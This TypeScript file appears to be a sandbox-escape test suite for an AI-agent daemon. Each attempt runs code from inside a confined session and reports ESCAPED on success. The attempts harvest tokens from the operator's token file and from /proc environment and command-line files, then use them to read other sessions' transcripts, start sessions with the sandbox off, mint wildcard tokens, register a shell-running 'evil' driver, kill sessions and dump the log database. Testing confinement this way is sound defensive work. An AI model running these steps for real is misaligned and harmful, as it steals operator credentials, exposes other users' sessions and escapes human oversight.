import { type AttemptGroup, node, python, sh } from "../attempt.ts";

/** Every token that can be found: its own, the operator's, those in any environment or command line. */
const KEYS = `
import glob, json, os, re, urllib.request
def read(path):
    try: return open(path, "rb").read(1 << 20).decode("latin1")
    except OSError: return ""
def keys():
    texts = [read(os.environ["NOMOS"] + "/token"), "\\n".join(os.environ.values())]
    texts += [read(path) for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")]
    return list(dict.fromkeys(re.findall(r"nm[ot]_[0-9A-Za-z_-]{20,}|nst_[0-9A-Za-z_-]{20,}", "\\n".join(texts))))
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
def ask(method, path, body=None, key=None, **more):
    headers = {"content-type": "application/json", **({} if key is None else {"authorization": "Bearer " + key}), **more}
    data = None if body is None else json.dumps(body).encode()
    try: return opener.open(urllib.request.Request(os.environ["NOMOS_API"] + path, data, headers, method=method), timeout=5).read().decode()
    except Exception as e: return str(e) + (e.read().decode() if hasattr(e, "read") else "")
def tool(name, arguments, key):
    version = "2026-07-28"; meta = "io.modelcontextprotocol/"
    about = {meta + "protocolVersion": version, meta + "clientInfo": {"name": "x", "version": "1"}, meta + "clientCapabilities": {}}
    headers = {"accept": "application/json, text/event-stream", "mcp-protocol-version": version, "mcp-method": "tools/call", "mcp-name": name}
    params = {"name": name, "arguments": arguments, "_meta": about}
    return ask("POST", "/mcp", {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}, key, **headers)
def all(method, path, body=None):
    for key in keys(): print(ask(method, path, body, key))
other = os.environ["OTHER_SESSION"]; P = os.environ["P"]; T = os.environ["T"]`;
const api = (text: string) => `${KEYS}\n${text}`;

export const DAEMON: AttemptGroup = {
  id: "daemon",
  title: "The daemon's API, by its own key, stolen and guessed ones",
  attempts: [
    sh("token-file", "the operator's token", "says", `grep -q nmo_ "$NOMOS/token" && echo ESCAPED`),
    python(
      "transcript",
      "another session's transcript",
      "secret",
      api(`all("GET", f"/sessions/{other}/events?limit=1000")`),
    ),
    python(
      "search",
      "a search through all sessions",
      "secret",
      api(`all("GET", "/api/sessions/search?q=" + os.environ["WORD"])`),
    ),
    python(
      "export",
      "the whole log",
      "secret",
      api(
        `all("GET", f"/sessions/{other}/transcript"); all("GET", f"/sessions/{other}/export"); all("GET", f"/sessions/{other}/events")`,
      ),
    ),
    python(
      "start",
      "a session without walls",
      "planted",
      api(`
all("POST", "/sessions/agent", {"adapter": "demo", "cwd": os.environ["D"], "sandbox": "off", "prompt": f"run touch {T}"})
import time; time.sleep(1.5)`),
    ),
    python(
      "start-wide",
      "a strict session whose directory lies outside",
      "planted",
      api(`
all("POST", "/sessions/agent", {"adapter": "demo", "cwd": os.environ["D"], "sandbox": "strict", "prompt": f"run touch {T}"})
import time; time.sleep(1.5)`),
    ),
    python(
      "prompt",
      "a prompt for a session without walls",
      "planted",
      api(`
all("POST", f"/sessions/{other}/prompt", {"prompt": f"run touch {T}", "queue": True})
import time; time.sleep(1.5)`),
    ),
    python(
      "fork",
      "a fork of a session without walls",
      "says",
      api(`
for key in keys():
    answer = ask("POST", f"/sessions/{other}/fork", {}, key); print(answer)
    if '"id"' in answer and '"error"' not in answer: print("ESCAPED")`),
    ),
    python(
      "token",
      "issuing a token with more rights",
      "says",
      api(`
for key in keys():
    answer = ask("POST", "/api/tokens", {"capabilities": ["*"]}, key); print(answer.replace("nmt_", ""))
    if '"secret"' in answer: print("ESCAPED")`),
    ),
    python(
      "driver",
      "adding a driver",
      "says",
      api(`
manifest = {"id": "evil", "name": "evil", "description": "x", "protocol": "acp", "bin": "/bin/sh", "bin_args": ["-c", "true"]}
for key in keys():
    answer = ask("POST", "/api/drivers", {"manifest": json.dumps(manifest)}, key); print(answer)
    if '"error"' not in answer and "evil" in answer: print("ESCAPED")`),
    ),
    python(
      "sessions",
      "a list of sessions",
      "says",
      api(`
for key in keys():
    if other in ask("GET", "/sessions", None, key): print("ESCAPED")`),
    ),
    python(
      "label",
      "a name for another session",
      "says",
      api(`
for key in keys():
    answer = ask("POST", f"/sessions/{other}/label", {"label": P}, key); print(answer)
    if '"error"' not in answer and P in answer: print("ESCAPED")`),
    ),
    python(
      "tool",
      "a session without walls, by a tool",
      "planted",
      api(`
for key in keys(): print(tool("session_start", {"adapter": "demo", "cwd": os.environ["D"], "sandbox": "off", "prompt": f"run touch {T}"}, key))
import time; time.sleep(1.5)`),
    ),
    python(
      "tool-prompt",
      "a prompt for another session, by a tool",
      "planted",
      api(`
for key in keys(): print(tool("session_prompt", {"id": other, "prompt": f"run touch {T}", "queue": True}, key))
import time; time.sleep(1.5)`),
    ),
    python(
      "tool-transcript",
      "another session's transcript, by a tool",
      "secret",
      api(`
for key in keys(): print(tool("session_events", {"id": other, "limit": 1000}, key))`),
    ),
    python(
      "kill",
      "the end of another session",
      "says",
      api(`
for key in keys():
    answer = ask("POST", f"/sessions/{os.environ['DOOMED_SESSION']}/kill", {}, key); print(answer)
    if '"ok":true' in answer.replace(" ", ""): print("ESCAPED"); break`),
    ),
    python(
      "other-key",
      "the key of another session, from its environment",
      "says",
      api(`
own = os.environ.get("NOMOS_TOKEN", "")
for key in keys():
    if key.startswith("nst_") and key != own and '"error"' not in ask("GET", f"/sessions/{os.environ['SIBLING_SESSION']}", None, key): print("ESCAPED")`),
    ),
    python(
      "socket",
      "the daemon's socket",
      "says",
      `
import os, socket
s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect(os.environ["NOMOS"] + "/nomos.sock")
s.sendall(b"GET /health HTTP/1.0\\r\\nHost: localhost\\r\\n\\r\\n"); print("ESCAPED" if b"200" in s.recv(99) else "")`,
    ),
    python(
      "socket-short",
      "the daemon's socket, by a directory that is open",
      "says",
      `
import os, socket
os.chdir(os.environ["NOMOS"]); s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect("nomos.sock")
s.sendall(b"GET /health HTTP/1.0\\r\\nHost: localhost\\r\\n\\r\\n"); print("ESCAPED" if b"200" in s.recv(99) else "")`,
    ),
    sh(
      "cli",
      "the product's own command line",
      "secret",
      // With its address given, it starts no daemon of its own inside the walls.
      `export NOMOS_HOME="$NOMOS" NOMOS_URL="$NOMOS_API" NOMOS_TOKEN="$(cat "$NOMOS/token" || echo none)"
"$NODE" "$NOMOS_BIN" session events "$OTHER_SESSION" --json; "$NODE" "$NOMOS_BIN" events "$OTHER_SESSION" --json`,
    ),
    node(
      "database",
      "the log, by SQLite",
      "secret",
      `
const { DatabaseSync } = require("node:sqlite"); const fs = require("node:fs");
const db = new DatabaseSync(process.env.NOMOS + "/log.db", { readOnly: true });
for (const { name } of db.prepare("select name from sqlite_master where type = 'table'").all())
  try { for (const row of db.prepare('select * from "' + name + '"').all()) console.log(Object.values(row).map((v) => v instanceof Uint8Array ? Buffer.from(v).toString("latin1") : String(v)).join(" ")); } catch (error) { console.log(error.message); }`,
    ),
  ],
};
